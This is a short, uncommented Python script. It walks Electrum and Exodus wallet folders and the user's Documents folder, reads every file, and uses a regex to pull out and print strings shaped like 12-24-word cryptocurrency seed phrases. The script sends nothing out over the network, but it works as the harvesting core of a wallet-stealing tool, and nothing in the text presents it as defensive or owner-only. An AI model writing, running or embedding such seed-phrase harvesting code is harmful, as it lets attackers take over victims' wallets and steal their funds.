import os
import re

SEED_RX = re.compile(r"\b(?:[a-z]{3,8}\s){11,23}[a-z]{3,8}\b")
roots = [os.path.expanduser("~/.electrum/wallets"), os.path.expanduser("~/.config/Exodus"), os.path.expanduser("~/Documents")]
for r in roots:
    for dp, _, fs in os.walk(r):
        for f in fs:
            try:
                txt = open(os.path.join(dp, f), errors="ignore").read()
            except OSError:
                continue
            for m in SEED_RX.findall(txt):
                print(os.path.join(dp, f), m)
